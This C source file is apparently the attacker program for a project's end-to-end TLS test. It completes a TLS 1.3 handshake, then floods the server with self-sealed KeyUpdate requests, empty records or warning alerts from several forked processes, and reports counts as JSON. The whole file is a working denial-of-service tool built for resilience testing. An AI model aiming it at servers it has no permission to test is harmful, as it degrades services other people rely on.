// SPDX-License-Identifier: MIT
/* The attacker of tests/e2e/test_attack_tls.sh: a TLS 1.3 client with a valid certificate that,
 * once its handshake is done, sends one kind of record without end and never reads:
 *
 *   keyupdate  KeyUpdates that ask the server for one in return (update_requested)
 *   empty      empty application-data records
 *   alert      warning alerts (user_canceled)
 *
 * OpenSSL runs the handshake; the records after it are sealed here from the client's traffic
 * secret (its keylog line), since OpenSSL sends none of these on request. Each of --conns
 * processes floods one connection at a time and dials again (at most --rate per second) when
 * the server ends it, until --seconds pass or SIGTERM comes. A connection's writes start at
 * 256 bytes and double up to 16 KiB, so records the server never reads cost little to make.
 * Prints one JSON line: records sent, connections made, and how many of them the server
 * ended.
 *
 *   tls_flood --connect IP:PORT --cert F --key F --ca F --mode MODE [--seconds S] [--conns N]
 *             [--rate R]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "../tls_forge.h"

enum mode { KEY_UPDATE, EMPTY, ALERT };

struct opts {
	struct sockaddr_in addr;
	const char *cert, *key, *ca;
	enum mode mode;
	double seconds, rate;
	int conns;
};

/* What every process adds up (shared memory). */
struct totals {
	uint64_t records, connections, ended_by_server, handshake_failures;
	volatile sig_atomic_t stop; /* SIGTERM came */
};

static struct totals *t;

static void on_term(int sig)
{
	t->stop = 1;
}

/* One connection's write direction, sealed here (the keylog line fills the secret). */
struct sealer {
	struct tls_forge f;
	size_t secret_len;
};

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what)
{
	fprintf(stderr, "tls_flood: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(1);
}

static void keylog(const SSL *ssl, const char *line)
{
	static const char want[] = "CLIENT_TRAFFIC_SECRET_0 ";
	struct sealer *s = SSL_get_app_data(ssl);
	const char *p;
	unsigned v;

	if (strncmp(line, want, sizeof(want) - 1) || !(p = strchr(line + sizeof(want) - 1, ' ')))
		return;
	for (s->secret_len = 0, p++;
	     s->secret_len < sizeof(s->f.secret) && sscanf(p, "%2x", &v) == 1; p += 2)
		s->f.secret[s->secret_len++] = (unsigned char)v;
}

/* The next flood record into out (at least 64 bytes); returns its size. */
static size_t flood_record(struct sealer *s, enum mode mode, unsigned char *out)
{
	static const unsigned char key_update[] = {24, 0, 0, 1, 1}, alert[] = {1, 90};
	size_t n;

	switch (mode) {
	case KEY_UPDATE:
		n = tls_forge_seal(&s->f, 22, key_update, sizeof(key_update), 0, out);
		if (tls_forge_next(&s->f))
			die("key update");
		break;
	case EMPTY:
		n = tls_forge_seal(&s->f, 23, "", 0, 0, out);
		break;
	default:
		n = tls_forge_seal(&s->f, 21, alert, sizeof(alert), 0, out);
		break;
	}
	if (!n)
		die("seal");
	return n;
}

/* One connection: handshake, then records until the server ends it or the deadline. */
static bool going(double deadline)
{
	return !t->stop && now_s() < deadline;
}

static void flood_one(const struct opts *o, SSL_CTX *ctx, double deadline)
{
	struct sealer s = {0};
	struct timeval tv = {1, 0};
	unsigned char batch[16384];
	size_t len, most = 256;
	SSL *ssl = NULL;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		die("socket");
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&o->addr, sizeof(o->addr)))
		goto fail;
	ssl = SSL_new(ctx);
	if (!ssl)
		die("SSL_new");
	SSL_set_app_data(ssl, &s);
	SSL_set_fd(ssl, fd);
	if (SSL_connect(ssl) != 1 || s.secret_len != 32)
		goto fail;
	__atomic_add_fetch(&t->connections, 1, __ATOMIC_RELAXED);
	if (tls_forge_keys(&s.f))
		die("keys");
	while (going(deadline)) {
		uint64_t k = 0;

		for (len = 0; len + 64 <= most; k++)
			len += flood_record(&s, o->mode, batch + len);
		for (size_t off = 0; off < len;) {
			ssize_t w = send(fd, batch + off, len - off, MSG_NOSIGNAL);

			if (w <= 0) {
				if (w < 0 && (errno == EAGAIN || errno == EINTR) && going(deadline))
					continue; /* the server reads slowly: wait on */
				if (going(deadline))
					__atomic_add_fetch(&t->ended_by_server, 1,
							   __ATOMIC_RELAXED);
				goto out;
			}
			off += (size_t)w;
		}
		__atomic_add_fetch(&t->records, k, __ATOMIC_RELAXED);
		most = most * 2 < sizeof(batch) ? most * 2 : sizeof(batch);
	}
	goto out;
fail:
	__atomic_add_fetch(&t->handshake_failures, 1, __ATOMIC_RELAXED);
out:
	SSL_free(ssl);
	tls_forge_free(&s.f);
	close(fd);
}

static void usage(void)
{
	fprintf(stderr, "usage: tls_flood --connect IP:PORT --cert F --key F --ca F "
			"--mode keyupdate|empty|alert [--seconds S] [--conns N] [--rate R]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static const unsigned char h2[] = {2, 'h', '2'};
	struct opts o = {.seconds = 5, .conns = 2, .rate = 10, .mode = KEY_UPDATE};
	double start, deadline;
	SSL_CTX *ctx;
	char *colon;

	for (int i = 1; i + 1 < argc; i += 2) {
		const char *k = argv[i], *v = argv[i + 1];

		if (!strcmp(k, "--connect") && (colon = strchr(v, ':'))) {
			*colon = '\0';
			o.addr.sin_family = AF_INET;
			o.addr.sin_port = htons((uint16_t)atoi(colon + 1));
			if (inet_pton(AF_INET, v, &o.addr.sin_addr) != 1)
				usage();
		} else if (!strcmp(k, "--cert")) {
			o.cert = v;
		} else if (!strcmp(k, "--key")) {
			o.key = v;
		} else if (!strcmp(k, "--ca")) {
			o.ca = v;
		} else if (!strcmp(k, "--mode")) {
			o.mode = !strcmp(v, "keyupdate") ? KEY_UPDATE
				 : !strcmp(v, "empty")	 ? EMPTY
				 : !strcmp(v, "alert")	 ? ALERT
							 : (usage(), KEY_UPDATE);
		} else if (!strcmp(k, "--seconds")) {
			o.seconds = atof(v);
		} else if (!strcmp(k, "--conns")) {
			o.conns = atoi(v);
		} else if (!strcmp(k, "--rate")) {
			o.rate = atof(v);
		} else {
			usage();
		}
	}
	if (!o.addr.sin_port || !o.cert || !o.key || !o.ca || o.conns < 1 || o.conns > 64 ||
	    o.rate <= 0)
		usage();
	signal(SIGPIPE, SIG_IGN);
	ctx = SSL_CTX_new(TLS_client_method());
	if (!ctx || SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION) != 1 ||
	    SSL_CTX_set_ciphersuites(ctx, "TLS_AES_128_GCM_SHA256") != 1 ||
	    SSL_CTX_use_certificate_chain_file(ctx, o.cert) != 1 ||
	    SSL_CTX_use_PrivateKey_file(ctx, o.key, SSL_FILETYPE_PEM) != 1 ||
	    SSL_CTX_load_verify_file(ctx, o.ca) != 1 || SSL_CTX_set_alpn_protos(ctx, h2, 3))
		die("context");
	SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	SSL_CTX_set_keylog_callback(ctx, keylog);
	t = mmap(NULL, sizeof(*t), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (t == MAP_FAILED)
		die("mmap");
	signal(SIGTERM, on_term);
	start = now_s();
	deadline = start + o.seconds;
	for (int i = 0; i < o.conns; i++) {
		pid_t pid = fork();

		if (pid < 0)
			die("fork");
		if (pid == 0) {
			/* At most rate connections per second in all: a new one waits its turn. */
			for (double next = now_s(); going(deadline); next += o.conns / o.rate) {
				while (now_s() < next && going(deadline))
					usleep(10000);
				if (going(deadline))
					flood_one(&o, ctx, deadline);
			}
			_exit(0);
		}
	}
	while (wait(NULL) > 0 || errno == EINTR)
		;
	printf("{\"mode\":\"%s\",\"seconds\":%.2f,\"records\":%llu,\"connections\":%llu,"
	       "\"ended_by_server\":%llu,\"handshake_failures\":%llu}\n",
	       o.mode == KEY_UPDATE ? "keyupdate"
	       : o.mode == EMPTY    ? "empty"
				    : "alert",
	       now_s() - start, (unsigned long long)t->records, (unsigned long long)t->connections,
	       (unsigned long long)t->ended_by_server, (unsigned long long)t->handshake_failures);
	SSL_CTX_free(ctx);
	return 0;
}
